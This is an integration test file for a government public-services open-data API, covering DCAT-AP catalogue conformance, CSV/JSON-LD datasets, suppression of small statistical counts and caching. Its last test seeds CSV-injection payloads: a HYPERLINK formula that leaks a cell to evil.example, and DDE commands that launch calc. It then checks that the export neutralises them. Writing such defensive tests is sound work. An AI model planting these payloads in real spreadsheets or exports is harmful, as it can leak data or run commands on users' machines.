// Open datasets (CSV and JSON-LD) and their DCAT-AP catalogue: public, cacheable, small counts suppressed.
import { expect } from 'chai';
import { stack } from '../../setup';
import { call } from '../../helpers/http';
import { personalCode, uniqueSuffix } from '../../helpers/cases';
import { validateCpsvAp, validateDcatAp, toStore, objectsOf, subjectsOfType } from '../../helpers/shacl';
import { registerCases } from '../../../db/cases/register-cases';
import { publishDescription, withdrawDescription } from '../../helpers/catalog';
import { demoDescription } from '../../../scripts/seed/catalog';
import { services } from '../../../scripts/seed/demo-data';

const DCAT = 'http://www.w3.org/ns/dcat#';
const DCT = 'http://purl.org/dc/terms/';
const SDP = 'https://sdp.gov.lv/id/def/';
const datasetUrl = (file: string) => `/api/v1/open-data/datasets/${file}`;

/** RFC 4180: records end in CRLF, quoted fields may hold commas, quotes (doubled) and line breaks. */
function parseCsv(text: string): Array<Record<string, string>> {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      record.push(field);
      field = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 1;
    } else if (ch === '\n') throw new Error(`bare LF at ${i}: records must end in CRLF`);
    else field += ch;
  }
  expect(field, 'the last record ends in CRLF').to.equal('');
  const [header, ...rows] = records;
  rows.forEach((r, n) => expect(r, `record ${n + 2}`).to.have.length(header.length));
  return rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
}

async function csvOf(file: string): Promise<{ header: string[]; rows: Array<Record<string, string>> }> {
  const res = await call('GET', datasetUrl(file));
  expect(res.status, file).to.equal(200);
  expect(res.headers.get('content-type')).to.equal('text/csv; charset=utf-8; header=present');
  const text = res.body as string;
  return { header: text.slice(0, text.indexOf('\r\n')).split(','), rows: parseCsv(text) };
}

describe('api/catalog (linked data: open data)', () => {
  it('describes every dataset in a DCAT-AP catalogue whose download URLs all work', async () => {
    const res = await call('GET', '/api/v1/open-data/catalog.jsonld');
    expect(res.status).to.equal(200);
    expect(res.headers.get('content-type')).to.match(/^application\/ld\+json/);
    const store = await toStore(res.body);
    const [catalog] = subjectsOfType(store, `${DCAT}Catalog`);
    expect(objectsOf(store, catalog, `${DCT}title`)).to.have.length(2);
    const datasets = objectsOf(store, catalog, `${DCAT}dataset`);
    expect(datasets.map((d) => d.replace(/^.*\//, ''))).to.have.members([
      'public-services',
      'service-statistics',
      'service-locations',
      'taxonomy',
    ]);

    for (const dataset of datasets) {
      const languages = store.getObjects(dataset, `${DCT}title`, null).map((o) => (o as { language: string }).language);
      expect(languages, dataset).to.have.members(['lv', 'en']);
      expect(objectsOf(store, dataset, `${DCT}description`), dataset).to.have.length(2);
      expect(objectsOf(store, dataset, `${DCT}publisher`), dataset).to.have.length(1);
      expect(objectsOf(store, dataset, `${DCT}license`), dataset).to.deep.equal([
        'http://publications.europa.eu/resource/authority/licence/CC_BY_4_0',
      ]);
      expect(objectsOf(store, dataset, `${DCAT}theme`), dataset).to.include(
        'http://publications.europa.eu/resource/authority/data-theme/GOVE',
      );
      const modified = objectsOf(store, dataset, `${DCT}modified`);
      // Statistics are dated by the case register's last change (an empty register has none; see the statistics test).
      if (dataset.endsWith('/service-statistics')) expect(modified, dataset).to.have.length.at.most(1);
      else expect(modified, dataset).to.have.length(1);
      const distributions = objectsOf(store, dataset, `${DCAT}distribution`);
      expect(distributions, dataset).to.have.length(2);
      for (const distribution of distributions) {
        const [url] = objectsOf(store, distribution, `${DCAT}downloadURL`);
        const [mediaType] = objectsOf(store, distribution, `${DCAT}mediaType`);
        expect(url.startsWith(`${stack.api.url}/api/v1/open-data/datasets/`), url).to.equal(true);
        const download = await fetch(url);
        expect(download.status, url).to.equal(200);
        expect(download.headers.get('content-type'), url).to.contain(mediaType.replace('http://www.iana.org/assignments/media-types/', ''));
        expect((await download.text()).length, url).to.be.greaterThan(100);
      }
    }
    // The CPSV-AP shapes cover dcat:Dataset and foaf:Agent (the publisher) too.
    const outcome = await validateCpsvAp(res.body);
    expect(outcome.conforms, outcome.violations.join('\n')).to.equal(true);

    const again = await call('GET', '/api/v1/open-data/catalog.jsonld', {
      headers: { 'if-none-match': res.headers.get('etag') as string },
    });
    expect(again.status).to.equal(304);
  });

  it('conforms to the DCAT-AP 3 shapes: mandatory, ranges and recommended properties', async () => {
    const res = await call('GET', '/api/v1/open-data/catalog.jsonld');
    const outcome = await validateDcatAp(res.body);
    expect(outcome.violations.join('\n'), 'DCAT-AP 3.0.1 SHACL').to.equal('');
    expect(outcome.conforms).to.equal(true);
  });

  it('publishes the catalogue as CSV with one row per published service and as a conforming CPSV-AP graph', async () => {
    const { header, rows } = await csvOf('public-services.csv');
    expect(header).to.deep.equal([
      'service_id',
      'version',
      'title_lv',
      'title_en',
      'description_lv',
      'description_en',
      'agency_id',
      'agency_name_lv',
      'agency_name_en',
      'sector',
      'thematic_areas',
      'life_events',
      'business_events',
      'keywords_lv',
      'keywords_en',
      'channels',
      'municipalities',
      'cost_eur_from',
      'cost_eur_to',
      'published_at',
      'iri',
      'cpsv_ap_url',
    ]);
    const { rows: published } = await stack.db.pool.query('SELECT service_id FROM catalog_published ORDER BY service_id');
    expect(rows.map((r) => r.service_id)).to.deep.equal(published.map((p) => p.service_id));
    const trade = rows.find((r) => r.service_id === 'trade-permit')!;
    expect(trade.description_en).to.equal('A permit to sell goods in public places in Riga: street trade, fairs and seasonal trade.');
    expect(trade.title_lv).to.equal('Tirdzniecības atļauja');
    expect(trade.channels.split(';')).to.have.members(['eservice', 'in_person', 'phone', 'email', 'post']);
    expect(trade.cost_eur_from).to.equal('10');
    expect((await call('GET', new URL(trade.cpsv_ap_url).pathname)).status).to.equal(200);

    const graph = await call('GET', datasetUrl('public-services.jsonld'));
    expect(graph.status).to.equal(200);
    const outcome = await validateCpsvAp(graph.body);
    expect(outcome.conforms, outcome.violations.join('\n')).to.equal(true);
    const store = await toStore(graph.body);
    expect(subjectsOfType(store, 'http://purl.org/vocab/cpsv#PublicService')).to.have.length(published.length);
  });

  it('aggregates delivery statistics per service × channel × month (and municipality), suppressing cells under 5 cases', async () => {
    const before = await call('GET', datasetUrl('service-statistics.csv'));
    const suffix = uniqueSuffix();
    const item = (n: number, channel: string, municipalityCode: string, extra: Record<string, unknown> = {}) => {
      const registeredAt = new Date(Date.UTC(2019, 2, 1 + n, 10));
      return {
        externalId: `od-${suffix}-${channel}-${n}`,
        serviceId: 'tax-consultation',
        channel,
        municipalityCode,
        recipient: { type: 'natural', id: personalCode(n) },
        registeredAt: registeredAt.toISOString(),
        priceEur: n % 2 === 0 ? 2 : 4,
        resources: { staffMinutes: 10 + (n % 2) * 10 },
        statusHistory: [
          { status: 'submitted', at: registeredAt.toISOString() },
          { status: 'completed', at: new Date(registeredAt.getTime() + 48 * 3600_000).toISOString() },
        ],
        ...extra,
      };
    };
    // Phone: 6 in Riga, 5 in Jelgava, 1 in Valmiera (12 in all, 4 of them rated); e-mail: 3 cases only.
    const phone = [...Array(12).keys()].map((n) =>
      item(n, 'phone', n < 6 ? '0001000' : n < 11 ? '0054000' : '0940200', n >= 8 ? { satisfaction: 5 } : {}),
    );
    const email = [0, 1, 2].map((n) => item(n, 'email', '0001000', { satisfaction: 4 }));
    const registeredFrom = Date.now();
    const results = await registerCases(stack.db.pool, { agencyId: 'vid', actorType: 'agency-system', actorId: 'open-data-test' }, [
      ...phone,
      ...email,
    ]);
    expect(results.map((r) => r.outcome)).to.deep.equal(Array(15).fill('created'));

    const { header, rows } = await csvOf('service-statistics.csv');
    expect(header).to.deep.equal([
      'service_id',
      'agency_id',
      'service_title_lv',
      'service_title_en',
      'channel',
      'month',
      'municipality_code',
      'cases',
      'suppressed',
      'average_price_eur',
      'average_staff_minutes',
      'average_hours_to_final_status',
      'average_satisfaction',
    ]);
    const cell = (channel: string, municipality: string) =>
      rows.find(
        (r) =>
          r.service_id === 'tax-consultation' && r.month === '2019-03' && r.channel === channel && r.municipality_code === municipality,
      );

    expect(cell('phone', '')).to.include(
      {
        agency_id: 'vid',
        cases: '12',
        suppressed: 'false',
        average_price_eur: '3',
        average_staff_minutes: '15',
        average_hours_to_final_status: '48',
        average_satisfaction: '',
      },
      'only 4 ratings: no average from them',
    );
    expect(cell('phone', '0001000')).to.include({
      cases: '6',
      suppressed: 'false',
      average_price_eur: '3',
      average_staff_minutes: '15',
      average_hours_to_final_status: '48',
    });
    expect(cell('phone', '0940200')).to.include({
      cases: '',
      suppressed: 'true',
      average_price_eur: '',
      average_staff_minutes: '',
      average_hours_to_final_status: '',
    });
    // 12 − 6 − Valmiera would give Jelgava's count away, and Jelgava's away Valmiera's: Jelgava is suppressed too.
    expect(cell('phone', '0054000')).to.include({ cases: '', suppressed: 'true', average_price_eur: '', average_satisfaction: '' });
    expect(cell('email', '')).to.include({
      cases: '',
      suppressed: 'true',
      average_price_eur: '',
      average_staff_minutes: '',
      average_hours_to_final_status: '',
      average_satisfaction: '',
    });
    expect(cell('email', '0001000')).to.include({ cases: '', suppressed: 'true' });
    expect(rows.filter((r) => r.suppressed === 'false').every((r) => Number(r.cases) >= 5)).to.equal(true);
    expect(
      rows
        .filter((r) => r.suppressed === 'true')
        .every((r) => r.cases === '' && r.average_price_eur === '' && r.average_satisfaction === ''),
    ).to.equal(true);

    const dcat = await toStore((await call('GET', '/api/v1/open-data/catalog.jsonld')).body);
    const [modified] = objectsOf(dcat, 'https://sdp.gov.lv/id/dataset/service-statistics', `${DCT}modified`);
    expect(Date.parse(modified), 'the time of the latest case').to.be.within(registeredFrom, Date.now());

    const changed = await call('GET', datasetUrl('service-statistics.csv'), {
      headers: { 'if-none-match': before.headers.get('etag') as string },
    });
    expect(changed.status, 'new cases make a new version of the dataset').to.equal(200);

    const cube = await toStore((await call('GET', datasetUrl('service-statistics.jsonld'))).body);
    const observation = 'https://sdp.gov.lv/id/dataset/service-statistics/observation/tax-consultation';
    expect(objectsOf(cube, `${observation}/phone/2019-03/all`, `${SDP}caseCount`)).to.deep.equal(['12']);
    expect(objectsOf(cube, `${observation}/email/2019-03/all`, `${SDP}suppressed`)).to.deep.equal(['true']);
    expect(objectsOf(cube, `${observation}/email/2019-03/all`, `${SDP}caseCount`)).to.deep.equal([]);
    expect(objectsOf(cube, `${observation}/email/2019-03/all`, `${SDP}averagePriceEur`)).to.deep.equal([]);
  });

  it('lists service locations with address, coordinates, opening hours and the services offered there', async () => {
    const { rows } = await csvOf('service-locations.csv');
    const { rows: offices } = await stack.db.pool.query('SELECT id FROM offices ORDER BY id');
    expect(rows.map((r) => r.office_id)).to.deep.equal(offices.map((o) => o.id));
    const riga = rows.find((r) => r.office_id === 'vpvkac-riga')!;
    expect(riga).to.include({
      address: 'Brīvības iela 49/53, Rīga, LV-1010',
      latitude: '56.9561',
      longitude: '24.1217',
      opening_hours: 'Mo-Fr 08:30-17:00',
      municipality_name_lv: 'Rīga',
    });
    expect(riga.services.split(';')).to.include.members(['passport-issue', 'trade-permit', 'income-tax-return']);

    const store = await toStore((await call('GET', datasetUrl('service-locations.jsonld'))).body);
    expect(objectsOf(store, 'https://sdp.gov.lv/id/office/csdd-riga', `${SDP}servicesOfferedInPerson`)).to.include.members([
      'https://sdp.gov.lv/id/service/vehicle-registration',
      'https://sdp.gov.lv/id/service/driving-licence-renewal',
    ]);
  });

  it('publishes every classifier the catalogue uses as SKOS concept schemes and CSV', async () => {
    const { rows } = await csvOf('taxonomy.csv');
    const schemes = [...new Set(rows.map((r) => r.scheme))];
    expect(schemes).to.deep.equal(['thematic-area', 'life-event', 'business-event', 'channel', 'sector', 'municipality']);
    const {
      rows: [counts],
    } = await stack.db.pool.query(
      'SELECT (SELECT count(*) FROM taxonomy_concepts)::int + (SELECT count(*) FROM sectors)::int + (SELECT count(*) FROM municipalities)::int AS n',
    );
    expect(rows).to.have.length(counts.n + 1, 'the case register\'s "other" channel too');
    expect(rows.find((r) => r.scheme === 'municipality' && r.code === '0054000')).to.include({
      label_lv: 'Jelgava',
      concept_iri: 'https://sdp.gov.lv/id/concept/municipality/0054000',
    });

    const res = await call('GET', datasetUrl('taxonomy.jsonld'));
    const store = await toStore(res.body);
    expect(subjectsOfType(store, 'http://www.w3.org/2004/02/skos/core#ConceptScheme')).to.have.length(6);
    expect(
      objectsOf(store, 'https://sdp.gov.lv/id/concept/life-event/moving-house', 'http://www.w3.org/2004/02/skos/core#inScheme'),
    ).to.deep.equal(['https://sdp.gov.lv/id/concept-scheme/life-event']);
    expect(
      (await call('GET', datasetUrl('taxonomy.jsonld'), { headers: { 'if-none-match': res.headers.get('etag') as string } })).status,
    ).to.equal(304);
  });
  it('neutralises cells a spreadsheet would run as a formula (OWASP CSV injection) with a leading single quote', async () => {
    const base = demoDescription(services.find((x) => x.id === 'passport-issue')!);
    const id = `csv-injection-${uniqueSuffix()}`.toLowerCase();
    const title = { lv: '=HYPERLINK("https://evil.example/?"&A1,"Klikšķiniet")', en: "+cmd|' /C calc'!A0" };
    await publishDescription(
      { ...base, id, title, description: { lv: "@SUM(1+1)*cmd|' /C calc'!A0", en: '-2+3' }, keywords: { lv: ['\tx'], en: ['\rx'] } },
      1,
    );
    try {
      const row = (await csvOf('public-services.csv')).rows.find((r) => r.service_id === id)!;
      expect(row.title_lv).to.equal(`'${title.lv}`);
      expect(row.title_en).to.equal(`'${title.en}`);
      expect(row.description_lv).to.equal("'@SUM(1+1)*cmd|' /C calc'!A0");
      expect(row.description_en).to.equal("'-2+3");
      expect(row.keywords_lv).to.equal("'\tx");
      expect(row.keywords_en).to.equal("'\rx");
      expect(row.version).to.equal('1'); // numbers stay numbers
      const stats = (await csvOf('service-statistics.csv')).rows;
      for (const r of stats) expect(r.title_lv ?? '').not.to.match(/^[=+\-@\t\r]/);
    } finally {
      await withdrawDescription(id);
    }
  });
});
